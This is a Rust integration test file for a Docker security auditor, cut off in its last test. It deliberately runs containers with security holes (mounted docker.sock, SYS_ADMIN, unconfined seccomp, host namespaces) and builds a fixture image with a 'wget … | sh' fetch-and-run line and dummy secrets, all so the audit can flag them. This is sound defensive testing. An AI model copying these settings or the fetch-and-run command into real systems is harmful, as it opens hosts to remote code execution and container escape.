//! `dockward audit` against the real engine: real containers with each
//! hole (root however spelled, the socket, a 0.0.0.0 port, host network and
//! pid, SYS_ADMIN, seccomp unconfined, /etc, a device, a stopped privileged
//! one), the daemon as it runs (a private dockerd with its own daemon.json
//! and a TCP listener on its command line), and a port's rating changing
//! when dockward firewall closes it — checked with real packets.

use assert_cmd::Command;
use dockward_testbench::{require_engine, Container, OutsideHost, PrivateDaemon, IMAGE};
use serde_json::Value;
use std::collections::BTreeSet;

/// `dockward audit <empty dir> --host [--host=URL]` as JSON, with its exit code.
fn audit(host: Option<&str>) -> (i32, Value) {
    let dir = tempfile::tempdir().unwrap();
    let mut cmd = Command::cargo_bin("dockward").unwrap();
    cmd.current_dir(dir.path()).arg("audit").arg(".");
    match host {
        Some(h) => cmd.arg(format!("--host={h}")),
        None => cmd.arg("--host"),
    };
    let out = cmd.args(["--format", "json"]).output().unwrap();
    let code = out.status.code().unwrap_or(-1);
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("audit JSON ({e}): {}", String::from_utf8_lossy(&out.stderr)));
    (code, v)
}

/// The CIS section-5 limits (memory, CPU, PIDs, read-only root, restart,
/// health, no-new-privileges, default bridge): most test containers trip
/// them, so the tests of the other rules leave them out and
/// `each_runtime_limit_is_read_from_the_real_container` judges them.
const RUNTIME: &[&str] = &[
    "container-no-memory-limit",
    "container-no-cpu-limit",
    "container-writable-rootfs",
    "container-restart-policy",
    "container-ulimit",
    "container-mount-propagation",
    "container-cgroup-parent",
    "container-new-privileges",
    "container-health",
    "container-no-pids-limit",
    "container-default-bridge",
    "container-privileged-port",
];

fn rules_for(v: &Value, container: &str) -> BTreeSet<String> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| !RUNTIME.contains(&f["rule"].as_str().unwrap_or("")))
        .filter(|f| f["location"]["kind"] == "container" && f["location"]["name"] == container)
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect()
}

fn finding<'a>(v: &'a Value, container: &str, rule: &str) -> &'a Value {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["location"]["name"] == container && f["rule"] == rule)
        .unwrap_or_else(|| panic!("no {rule} for {container}"))
}

fn set(ids: &[&str]) -> BTreeSet<String> {
    ids.iter().map(|s| s.to_string()).collect()
}

#[test]
fn every_container_hole_is_found_running_or_stopped() {
    require_engine!();
    let _lock = firewall_lock();
    let sleep = [IMAGE, "sleep", "600"];
    let with = |args: &[&str]| -> Vec<String> {
        args.iter()
            .chain(sleep.iter())
            .map(|s| s.to_string())
            .collect()
    };
    let run = |what: &str, args: &[&str]| {
        let a = with(args);
        let a: Vec<&str> = a.iter().map(String::as_str).collect();
        Container::run(what, &a)
    };
    let clean = run("clean", &["--user", "1000:1000"]);
    let image_root = run("imgroot", &[]);
    let zero = run("zero", &["--user", "0:0"]);
    // The test image has no /etc/passwd, so `root:root` cannot start here;
    // created but stopped, it is audited all the same.
    let a = with(&["--user", "root:root"]);
    let a: Vec<&str> = a.iter().map(String::as_str).collect();
    let rootroot = Container::create("rootroot", &a);
    let sock = run(
        "sock",
        &[
            "--user",
            "1000",
            "-v",
            "/var/run/docker.sock:/var/run/docker.sock:ro",
        ],
    );
    let port = run("port", &["--user", "1000", "-p", "0.0.0.0::8080"]);
    let hostnet = run("hostnet", &["--user", "1000", "--network", "host"]);
    let hostpid = run("hostpid", &["--user", "1000", "--pid", "host"]);
    let sysadmin = run("sysadmin", &["--user", "1000", "--cap-add", "sys_admin"]);
    let seccomp = run(
        "seccomp",
        &["--user", "1000", "--security-opt", "seccomp=unconfined"],
    );
    let etc = run("etc", &["--user", "1000", "-v", "/etc:/host-etc:ro"]);
    let device = run(
        "device",
        &["--user", "1000", "--device", "/dev/null:/dev/xnull"],
    );
    let a = with(&["--privileged", "--user", "1000"]);
    let a: Vec<&str> = a.iter().map(String::as_str).collect();
    let stopped = Container::create("privstopped", &a);

    let (code, v) = audit(None);
    assert_eq!(code, 1, "findings make the exit status 1");
    assert_eq!(rules_for(&v, &clean.name), set(&[]), "{v:#}");
    for c in [&image_root, &zero, &rootroot] {
        assert_eq!(
            rules_for(&v, &c.name),
            set(&["container-root-user"]),
            "{}",
            c.name
        );
    }
    assert!(finding(&v, &zero.name, "container-root-user")["evidence"]
        .as_str()
        .unwrap()
        .contains("0:0"));
    let expect = [
        (&sock, "container-docker-socket"),
        (&port, "container-port-all-interfaces"),
        (&hostnet, "container-host-network"),
        (&hostpid, "container-host-namespace"),
        (&sysadmin, "container-dangerous-capability"),
        (&seccomp, "container-unconfined"),
        (&etc, "container-sensitive-mount"),
        (&device, "container-device"),
        (&stopped, "container-privileged"),
    ];
    for (c, rule) in expect {
        assert_eq!(rules_for(&v, &c.name), set(&[rule]), "{}", c.name);
    }
    assert_eq!(
        finding(&v, &sock.name, "container-docker-socket")["severity"],
        "critical"
    );
    assert_eq!(
        finding(&v, &hostpid.name, "container-host-namespace")["cis"],
        "5.16"
    );
    // No firewall of ours: a 0.0.0.0 port is reachable, rated high.
    let p = finding(&v, &port.name, "container-port-all-interfaces");
    assert_eq!(p["severity"], "high", "{p:#}");
    assert!(
        p["evidence"]
            .as_str()
            .unwrap()
            .contains("reachable from outside"),
        "{p:#}"
    );

    // Each image a container uses is audited from its config and history,
    // its user left to the container rule (which sees --user).
    let images: Vec<&Value> = v["targets"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t["kind"] == "image")
        .collect();
    assert!(images.iter().any(|t| t["name"] == IMAGE), "{images:?}");
    assert!(
        !v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "image-root-user"),
        "no image-root-user under --host"
    );

    // The daemon as it runs: icc is on and userns-remap off on the bench.
    let daemon: BTreeSet<String> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["location"]["kind"] == "daemon")
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect();
    assert!(
        daemon.contains("daemon-userns-remap") && daemon.contains("daemon-icc"),
        "{daemon:?}"
    );

    // Only the high-and-above threshold: still 1 (socket, privileged, …).
    let dir = tempfile::tempdir().unwrap();
    let out = Command::cargo_bin("dockward")
        .unwrap()
        .current_dir(dir.path())
        .args(["audit", ".", "--host", "--fail-on", "critical"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(&format!("container {}", sock.name)), "{text}");
}

#[test]
fn a_port_closed_by_dockward_firewall_is_rated_low() {
    require_engine!();
    let _lock = firewall_lock();
    let c = Container::run(
        "fwport",
        &[
            "--user",
            "1000",
            "-p",
            "0.0.0.0::80",
            IMAGE,
            "httpd",
            "-f",
            "-p",
            "80",
        ],
    );
    let out = dockward_testbench::docker(&["port", &c.name, "80/tcp"]);
    let hp: u16 = out
        .lines()
        .next()
        .unwrap()
        .rsplit(':')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let outside = OutsideHost::new();
    assert!(
        outside.tcp(&outside.host_addr, hp).is_open(),
        "open before the firewall"
    );
    let (_, v) = audit(None);
    assert_eq!(
        finding(&v, &c.name, "container-port-all-interfaces")["severity"],
        "high"
    );

    let apply = Command::cargo_bin("dockward")
        .unwrap()
        .args(["firewall", "apply"])
        .output()
        .unwrap();
    let _remove = Remove;
    assert!(
        apply.status.success(),
        "{}",
        String::from_utf8_lossy(&apply.stderr)
    );
    assert!(
        !outside.tcp(&outside.host_addr, hp).is_open(),
        "closed by the firewall"
    );
    let (_, v) = audit(None);
    let f = finding(&v, &c.name, "container-port-all-interfaces");
    assert_eq!(f["severity"], "low", "{f:#}");
    // Kept local by the firewall: listed, named, and not counted.
    assert_eq!(f["suppressed"]["kind"], "accepted", "{f:#}");
    assert!(
        f["suppressed"]["reason"]
            .as_str()
            .unwrap()
            .contains("dockward firewall keeps it local only"),
        "{f:#}"
    );
    assert!(
        f["evidence"]
            .as_str()
            .unwrap()
            .contains("not reachable from outside"),
        "{f:#}"
    );
}

/// An image tag of the test image under another name, removed on drop.
struct Tag(String);

impl Tag {
    fn new(name: &str) -> Self {
        let t = format!("{name}:dwt-{}", std::process::id());
        dockward_testbench::docker(&["tag", IMAGE, &t]);
        Self(t)
    }
}

impl Drop for Tag {
    fn drop(&mut self) {
        let _ = std::process::Command::new("docker")
            .args(["rmi", "--no-prune", &self.0])
            .output();
    }
}

#[test]
fn a_socket_proxy_is_judged_by_what_it_is() {
    require_engine!();
    let sock = "/var/run/docker.sock:/var/run/docker.sock:ro";
    let ours = Tag::new("dockward-proxy");
    let theirs = Tag::new("tecnativa/docker-socket-proxy");
    let impostor = Tag::new("dwtevil/dockward-proxy");
    let client = Container::run(
        "sockclient",
        &["--user", "1000", "-v", sock, IMAGE, "sleep", "600"],
    );
    let a = Container::run(
        "sockours",
        &["--user", "1000", "-v", sock, &ours.0, "sleep", "600"],
    );
    let b = Container::run(
        "socktheirs",
        &["--user", "1000", "-v", sock, &theirs.0, "sleep", "600"],
    );
    let evil = Container::run(
        "sockevil",
        &["--user", "1000", "-v", sock, &impostor.0, "sleep", "600"],
    );
    let (_, v) = audit(None);
    let f = finding(&v, &a.name, "container-docker-socket");
    assert_eq!(f["suppressed"]["kind"], "accepted", "{f:#}");
    // An image that only borrows dockward's name is counted.
    let f = finding(&v, &evil.name, "container-docker-socket");
    assert!(f["suppressed"].is_null(), "{f:#}");
    let f = finding(&v, &b.name, "container-docker-socket");
    assert!(f["suppressed"].is_null(), "{f:#}");
    let fix = f["remediation"].as_str().unwrap();
    // The same container with the image swapped: its environment (the
    // tecnativa variables) kept by reference.
    let create = fix
        .lines()
        .find(|l| l.starts_with("docker create"))
        .unwrap_or_else(|| panic!("{fix}"));
    assert!(create.contains(" --env-file "), "{create}");
    assert!(
        create.contains(concat!(
            " dockward-proxy:",
            env!("CARGO_PKG_VERSION"),
            " sleep 600"
        )),
        "{create}"
    );
    assert!(!fix.contains("DOCKER_HOST"), "no circular fix: {fix}");
    let fix = finding(&v, &client.name, "container-docker-socket")["remediation"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(fix.contains("DOCKER_HOST=tcp://docker-proxy:2375"), "{fix}");
    assert!(!fix.contains('…'), "{fix}");
    drop((a, b, evil, client));
}

/// Takes dockward's firewall out when the test ends, pass or fail.
struct Remove;

impl Drop for Remove {
    fn drop(&mut self) {
        let _ = Command::cargo_bin("dockward")
            .unwrap()
            .args(["firewall", "remove"])
            .output();
    }
}

/// Tests in this binary that touch the firewall run one at a time.
fn firewall_lock() -> std::sync::MutexGuard<'static, ()> {
    static LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());
    LOCK.lock().unwrap_or_else(|e| e.into_inner())
}

#[test]
fn the_daemon_as_it_runs_with_its_own_config_file_and_flags() {
    require_engine!();
    let port = 23000 + (std::process::id() % 2000) as u16;
    let tcp = format!("tcp://127.0.0.1:{port}");
    let d = PrivateDaemon::start_with(
        r#"{"live-restore": true, "no-new-privileges": true, "ip": "127.0.0.1", "log-level": "debug", "experimental": true}"#,
        &["-H", &tcp],
    );
    // CIS 3.18: a daemon.json others can write.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(d.config_file(), std::fs::Permissions::from_mode(0o666)).unwrap();
    let (code, v) = audit(Some(&d.host()));
    assert_eq!(code, 1);
    let daemon: Vec<&Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["location"]["kind"] == "daemon")
        .collect();
    let ids: BTreeSet<String> = daemon
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect();
    // From the command line: the TCP listener without tlsverify and
    // --iptables=false (which is also why icc stays on: dockerd refuses
    // icc=false without iptables). From daemon.json, found through
    // --config-file: no-new-privileges and the loopback default bind, which
    // the Engine API does not show.
    assert_eq!(
        ids,
        set(&[
            "daemon-authorization",
            "daemon-experimental",
            "daemon-icc",
            "daemon-iptables-disabled",
            "daemon-log-level",
            "daemon-remote-logging",
            "daemon-tcp-without-tls",
            "daemon-userland-proxy",
            "daemon-userns-remap"
        ]),
        "{v:#}"
    );
    // Its files (CIS 3.18 on the --config-file it really uses) and its
    // data root (CIS 1.1.1: a directory under /tmp, no partition).
    let host: Vec<(String, String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["location"]["kind"] == "host")
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["cis"].as_str().unwrap_or("").to_string(),
                f["location"]["path"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let config = d.config_file().display().to_string();
    assert!(
        host.contains(&("host-file-mode".into(), "3.18".into(), config.clone())),
        "{host:?}"
    );
    assert!(
        host.iter()
            .any(|(r, c, _)| r == "host-data-root-partition" && c == "1.1.1"),
        "{host:?}"
    );
    std::fs::set_permissions(d.config_file(), std::fs::Permissions::from_mode(0o644)).unwrap();
    let (_, v) = audit(Some(&d.host()));
    assert!(
        !v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["location"]["path"] == config.as_str()),
        "0644 passes"
    );
    let source = daemon[0]["location"]["source"].as_str().unwrap();
    assert!(
        source.contains("daemon.json")
            && source.contains("dockerd command line")
            && source.contains("Engine API"),
        "{source}"
    );
    let tcp_f = daemon
        .iter()
        .find(|f| f["rule"] == "daemon-tcp-without-tls")
        .unwrap();
    assert!(
        tcp_f["evidence"].as_str().unwrap().contains(&tcp),
        "{tcp_f:#}"
    );

    // An unreachable daemon asked for with --host is exit 3, not a pass.
    let dir = tempfile::tempdir().unwrap();
    let out = Command::cargo_bin("dockward")
        .unwrap()
        .current_dir(dir.path())
        .args(["audit", ".", "--host=unix:///nonexistent/dwt.sock"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn harden_daemon_writes_a_backup_and_never_restarts_dockerd() {
    require_engine!();
    let d = PrivateDaemon::start_with("{\n  \"log-driver\": \"json-file\"\n}\n", &[]);
    let pid = d.pid().unwrap();
    let file = d.config_file();
    let harden = |extra: &[&str]| {
        Command::cargo_bin("dockward")
            .unwrap()
            .arg(format!("--host={}", d.host()))
            .args(["harden", "daemon"])
            .args(extra)
            .output()
            .unwrap()
    };
    // Dry run: a diff, nothing written.
    let out = harden(&[]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("+  \"userns-remap\": \"default\""), "{text}");
    assert!(
        text.contains("Existing images, containers and volumes are hidden"),
        "{text}"
    );
    // The private dockerd runs with --iptables=false: icc=false would stop
    // it from starting, so icc is a manual step, not a change.
    assert!(
        text.contains("icc: dockerd refuses icc=false while iptables is off"),
        "{text}"
    );
    assert!(
        text.contains("iptables: dockerd is started with --iptables=false"),
        "{text}"
    );
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "{\n  \"log-driver\": \"json-file\"\n}\n"
    );

    // Picked by key or rule id; the ones left out are said, not hidden.
    let out = harden(&["--skip", "userns-remap,daemon-default-bind-all"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(!text.contains("+  \"userns-remap\""), "{text}");
    assert!(!text.contains("+  \"ip\""), "{text}");
    assert!(text.contains("+  \"no-new-privileges\": true"), "{text}");
    assert!(
        text.contains("Left out by --only/--skip:\n  userns-remap"),
        "{text}"
    );
    let out = harden(&["--only", "userns", "--apply"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("--only userns: no such change"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        "{\n  \"log-driver\": \"json-file\"\n}\n",
        "nothing written on a bad id"
    );

    let out = harden(&["--apply", "--format", "json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["applied"], true);
    let backup = v["backup"].as_str().unwrap();
    assert_eq!(
        std::fs::read_to_string(backup).unwrap(),
        "{\n  \"log-driver\": \"json-file\"\n}\n"
    );
    let written = std::fs::read_to_string(&file).unwrap();
    let keys: Vec<String> = written
        .lines()
        .filter_map(|l| l.trim().split('"').nth(1).map(str::to_string))
        .collect();
    assert_eq!(
        keys,
        [
            "log-driver",
            "userns-remap",
            "ip",
            "no-new-privileges",
            "live-restore",
            "userland-proxy"
        ],
        "{written}"
    );
    // dockerd was not restarted and still answers.
    assert_eq!(d.pid(), Some(pid));
    assert!(std::path::Path::new(&format!("/proc/{pid}")).exists());
    d.docker(&["version"]);
    // The hardened file audits clean of what a file can fix.
    let out = Command::cargo_bin("dockward")
        .unwrap()
        .arg("audit")
        .arg(&file)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let ids: BTreeSet<String> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect();
    // icc stays (no iptables on this private daemon); an authorization
    // plugin and a remote log destination are the operator's choice.
    assert_eq!(
        ids,
        set(&[
            "daemon-icc",
            "daemon-authorization",
            "daemon-remote-logging"
        ])
    );
    // Applying again changes nothing and writes no second backup.
    let out = harden(&["--apply"]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("nothing to change in the file"));
    let backups = std::fs::read_dir(file.parent().unwrap())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().contains(".dockward-"))
        .count();
    assert_eq!(backups, 1);
    // Invalid JSON: exit 2, a message with the position, the file untouched.
    std::fs::write(&file, "{\"icc\": fals}").unwrap();
    let out = harden(&["--apply"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(":1:"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "{\"icc\": fals}");
}

/// Puts /etc/default/docker back as it was, pass or fail.
struct RestoreFile(&'static str, Option<Vec<u8>>);

impl Drop for RestoreFile {
    fn drop(&mut self) {
        match &self.1 {
            Some(b) => {
                let _ = std::fs::write(self.0, b);
            }
            None => {
                let _ = std::fs::remove_file(self.0);
            }
        }
    }
}

#[test]
fn docker_opts_in_etc_default_docker_are_read() {
    require_engine!();
    const PATH: &str = "/etc/default/docker";
    let _restore = RestoreFile(PATH, std::fs::read(PATH).ok());
    let mut text = std::fs::read_to_string(PATH).unwrap_or_default();
    text.push_str(
        "\nDOCKER_OPTS=\"-H tcp://127.0.0.1:2999 --insecure-registry dwt.invalid:5000\"\n",
    );
    std::fs::write(PATH, text).unwrap();
    let (_, v) = audit(None);
    let f: Vec<&Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["location"]["kind"] == "daemon")
        .collect();
    let tcp = f
        .iter()
        .find(|f| f["rule"] == "daemon-tcp-without-tls")
        .expect("tcp finding from DOCKER_OPTS");
    assert!(
        tcp["evidence"]
            .as_str()
            .unwrap()
            .contains("tcp://127.0.0.1:2999"),
        "{tcp:#}"
    );
    assert!(
        tcp["location"]["source"]
            .as_str()
            .unwrap()
            .contains("/etc/default/docker"),
        "{tcp:#}"
    );
    assert!(f.iter().any(|f| f["rule"] == "daemon-insecure-registry"));
}

/// An anonymous volume's name, removed at the end: the recreated
/// container mounts it by name, so `docker rm -v` keeps it.
struct VolumeGone(String);

impl Drop for VolumeGone {
    fn drop(&mut self) {
        let _ = dockward_testbench::docker_output(&["volume", "rm", &self.0]);
    }
}

fn inspect(name: &str) -> Value {
    let out = dockward_testbench::docker(&["inspect", name]);
    let v: Value = serde_json::from_str(&out).unwrap();
    v[0].clone()
}

/// Every fix for a `docker run` container, pasted into a shell one after
/// the other, leaves a container with no finding left that still has
/// every other setting it had: environment (never printed), restart
/// policy, networks and aliases, volumes with their data, binds, labels,
/// hostname, working directory and command.
#[test]
fn docker_run_fixes_are_pasteable_and_keep_every_other_setting() {
    require_engine!();
    let _lock = firewall_lock();
    let n1 = dockward_testbench::Network::create("rerun1", &[]);
    let n2 = dockward_testbench::Network::create("rerun2", &[]);
    let cfg = tempfile::tempdir().unwrap();
    let cfg_bind = format!("{}:/cfg:ro", cfg.path().display());
    let c = Container::run(
        "rerun",
        &[
            "--cap-add",
            "SYS_ADMIN",
            "--user",
            "0",
            "-e",
            "SECRET=hunter2-dwt",
            "-e",
            "SPACED=a b  c",
            "--restart",
            "unless-stopped",
            // busybox sleep as pid 1 ignores SIGTERM: 1 s, not 10, per stop.
            "--stop-timeout",
            "1",
            "--network",
            &n1.name,
            "--network-alias",
            "web",
            "--hostname",
            "webhost",
            "-w",
            "/tmp",
            "-p",
            "0.0.0.0::80",
            "--label",
            "tier=front",
            "-v",
            "/data",
            "-v",
            &cfg_bind,
            IMAGE,
            "sleep",
            "600",
        ],
    );
    dockward_testbench::docker(&["network", "connect", "--alias", "side", &n2.name, &c.name]);
    dockward_testbench::docker(&["exec", &c.name, "sh", "-c", "echo kept > /data/x"]);
    let before = inspect(&c.name);
    let volume = before["Mounts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["Destination"] == "/data")
        .unwrap()["Name"]
        .as_str()
        .unwrap()
        .to_string();
    let _volume = VolumeGone(volume.clone());

    let work = tempfile::tempdir().unwrap();
    let applied = fix_until_clean(&c.name, work.path());
    for want in [
        "container-dangerous-capability",
        "container-root-user",
        "container-port-all-interfaces",
    ] {
        assert!(
            applied.iter().any(|r| r == want),
            "{want} not fixed: {applied:?}"
        );
    }

    let after = inspect(&c.name);
    assert_ne!(after["Id"], before["Id"], "recreated");
    assert_eq!(after["State"]["Running"], true);
    assert_eq!(after["HostConfig"]["Privileged"], false);
    assert_eq!(after["Config"]["User"], "10001:10001");
    assert!(after["HostConfig"]["CapAdd"]
        .as_array()
        .is_none_or(|a| a.is_empty()));
    let binds = after["HostConfig"]["PortBindings"]["80/tcp"]
        .as_array()
        .unwrap();
    assert!(
        binds.iter().all(|b| b["HostIp"] == "127.0.0.1"),
        "{binds:?}"
    );
    let sorted = |v: &Value| {
        let mut e: Vec<String> = v
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap().to_string())
            .collect();
        e.sort();
        e
    };
    assert_eq!(
        sorted(&after["Config"]["Env"]),
        sorted(&before["Config"]["Env"])
    );
    for key in [
        "Cmd",
        "Hostname",
        "WorkingDir",
        "Labels",
        "Image",
        "StopTimeout",
    ] {
        assert_eq!(after["Config"][key], before["Config"][key], "Config.{key}");
    }
    assert_eq!(
        after["HostConfig"]["RestartPolicy"],
        before["HostConfig"]["RestartPolicy"]
    );
    let nets = &after["NetworkSettings"]["Networks"];
    for (net, alias) in [(&n1.name, "web"), (&n2.name, "side")] {
        let aliases = nets[net.as_str()]["Aliases"].to_string();
        assert!(aliases.contains(alias), "{net}: {aliases}");
    }
    let mounts = after["Mounts"].to_string();
    assert!(mounts.contains(&volume), "the same volume: {mounts}");
    assert!(mounts.contains("/cfg"), "{mounts}");
    assert_eq!(
        dockward_testbench::docker(&["exec", &c.name, "cat", "/data/x"]),
        "kept"
    );
    let old = dockward_testbench::docker_output(&["inspect", &format!("{}-old", c.name)]);
    assert!(!old.status.success(), "the old container is removed");
    assert_eq!(
        std::fs::read_dir(work.path()).unwrap().count(),
        0,
        "no env file left behind"
    );
    drop(c);
    drop((n1, n2));

    // A stopped privileged container (a privileged one cannot start on
    // this bench) is recreated stopped, without the privilege.
    let p = Container::create(
        "rerunpriv",
        &[
            "--privileged",
            "--user",
            "1000",
            "-e",
            "SECRET=hunter2-dwt",
            "--restart",
            "always",
            IMAGE,
            "sleep",
            "600",
        ],
    );
    let before = inspect(&p.name);
    let applied = fix_until_clean(&p.name, work.path());
    assert_eq!(applied, ["container-privileged"]);
    let after = inspect(&p.name);
    assert_ne!(after["Id"], before["Id"], "recreated");
    assert_eq!(after["HostConfig"]["Privileged"], false);
    assert_eq!(after["State"]["Status"], "created", "not started");
    assert_eq!(after["Config"]["Env"], before["Config"]["Env"]);
    assert_eq!(
        after["HostConfig"]["RestartPolicy"],
        before["HostConfig"]["RestartPolicy"]
    );
}

/// Applies the first open finding's fix of container `name` in a shell,
/// audits again, until none is left; the rules fixed, in order.
fn fix_until_clean(name: &str, work: &std::path::Path) -> Vec<String> {
    let mut applied: Vec<String> = Vec::new();
    loop {
        let (_, v) = audit(None);
        assert!(
            !v.to_string().contains("hunter2"),
            "the environment is passed by reference, never printed"
        );
        let open: Vec<&Value> = v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["location"]["name"] == name && f["suppressed"].is_null())
            .filter(|f| !RUNTIME.contains(&f["rule"].as_str().unwrap_or("")))
            .collect();
        let Some(f) = open.first() else {
            return applied;
        };
        let rule = f["rule"].as_str().unwrap().to_string();
        assert!(
            applied.len() < 6 && !applied.contains(&rule),
            "{rule} again: {f:#}"
        );
        let fix = f["remediation"].as_str().unwrap();
        assert!(fix.contains("docker create --name"), "{rule}: {fix}");
        let out = std::process::Command::new("bash")
            .args(["-ec", fix])
            .current_dir(work)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{rule}: the fix failed: {}\n{fix}",
            String::from_utf8_lossy(&out.stderr)
        );
        applied.push(rule);
    }
}

/// `audit --image` on a real image built on the bench: what its config,
/// history and layers hold, secrets never printed, the deleted key found
/// in the layer that still has it; a missing image is exit 4.
#[test]
fn an_image_is_judged_by_its_config_history_and_layers() {
    require_engine!();
    let img = dockward_testbench::Image::build(
        "imgaudit",
        "ARG NPM_TOKEN=npm_secret_dwt\n\
         ENV DB_PASSWORD=hunter2-dwt\n\
         RUN busybox mkdir -p /root/.ssh /opt/tools /app && echo '-----BEGIN OPENSSH PRIVATE KEY-----' > /root/.ssh/id_rsa && echo TOKEN=x > /app/.env\n\
         RUN echo $NPM_TOKEN >/dev/null && busybox chmod 4755 /bin/busybox && busybox chmod 777 /opt/tools && busybox rm /root/.ssh/id_rsa\n\
         ENV PATH=/opt/tools:/bin\n\
         EXPOSE 22\n\
         ONBUILD RUN wget -qO- http://example.invalid/i.sh | sh",
    );
    let dir = tempfile::tempdir().unwrap();
    let out = Command::cargo_bin("dockward")
        .unwrap()
        .current_dir(dir.path())
        .args(["audit", "--image", &img.name, "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains("npm_secret_dwt") && !text.contains("hunter2-dwt"));
    let v: Value = serde_json::from_str(&text).unwrap();
    let found: BTreeSet<String> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(
        found,
        set(&[
            "image-history-secret",
            "image-history-step",
            "image-no-healthcheck",
            "image-root-user",
            "image-secret-env",
            "image-secret-file",
            "image-setuid",
            "image-ssh-port",
            "image-writable-path",
        ]),
        "{text}"
    );
    // Only the image: no file or host target.
    assert_eq!(
        v["targets"].as_array().unwrap().len(),
        1,
        "{}",
        v["targets"]
    );
    let key = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| {
            f["evidence"]
                .as_str()
                .unwrap()
                .starts_with("/root/.ssh/id_rsa")
        })
        .expect("the deleted key");
    assert!(key["evidence"]
        .as_str()
        .unwrap()
        .contains("deleted by a later layer"));
    assert!(key["location"]["layer"]
        .as_str()
        .unwrap()
        .starts_with("sha256:"));
    // SARIF points at the image and the layer.
    let sarif = Command::cargo_bin("dockward")
        .unwrap()
        .current_dir(dir.path())
        .args(["audit", "--image", &img.name, "--format", "sarif"])
        .output()
        .unwrap();
    let s = String::from_utf8_lossy(&sarif.stdout);
    assert!(s.contains("/layer/sha256:"), "{s}");

    let out = Command::cargo_bin("dockward")
        .unwrap()
        .current_dir(dir.path())
        .args(["audit", "--image", "dwt-no-such-image:0"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains("dwt-no-such-image:0"), "{err}");
}

/// Each CIS section-5 runtime option, read from real containers: one with
/// every limit set trips none of them, and each container with one option
/// off trips exactly that rule.
#[test]
fn each_runtime_limit_is_read_from_the_real_container() {
    require_engine!();
    let net = dockward_testbench::Network::create("limits", &[]);
    let dir = tempfile::tempdir().unwrap();
    let bind = format!("{}:/srv", dir.path().display());
    let hardened = |extra: &[&str], drop: &[&str]| -> Vec<String> {
        let mut all: Vec<String> = [
            "--user",
            "1000",
            "--memory",
            "64m",
            "--cpus",
            "0.5",
            "--pids-limit",
            "64",
            "--read-only",
            "--security-opt",
            "no-new-privileges",
            "--health-cmd",
            "true",
            "--restart",
            "on-failure:3",
            "--network",
            &net.name,
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        for d in drop {
            if let Some(i) = all.iter().position(|a| a == d) {
                let n = if *d == "--read-only" { 1 } else { 2 };
                all.drain(i..i + n);
            }
        }
        all.extend(extra.iter().map(|s| s.to_string()));
        all.extend([IMAGE, "sleep", "600"].iter().map(|s| s.to_string()));
        all
    };
    let run = |what: &str, extra: &[&str], drop: &[&str]| {
        let a = hardened(extra, drop);
        let a: Vec<&str> = a.iter().map(String::as_str).collect();
        Container::run(what, &a)
    };
    let clean = run("lim-clean", &[], &[]);
    let cases = [
        (
            run("lim-mem", &[], &["--memory"]),
            "container-no-memory-limit",
        ),
        (run("lim-cpu", &[], &["--cpus"]), "container-no-cpu-limit"),
        (
            run("lim-pids", &[], &["--pids-limit"]),
            "container-no-pids-limit",
        ),
        (
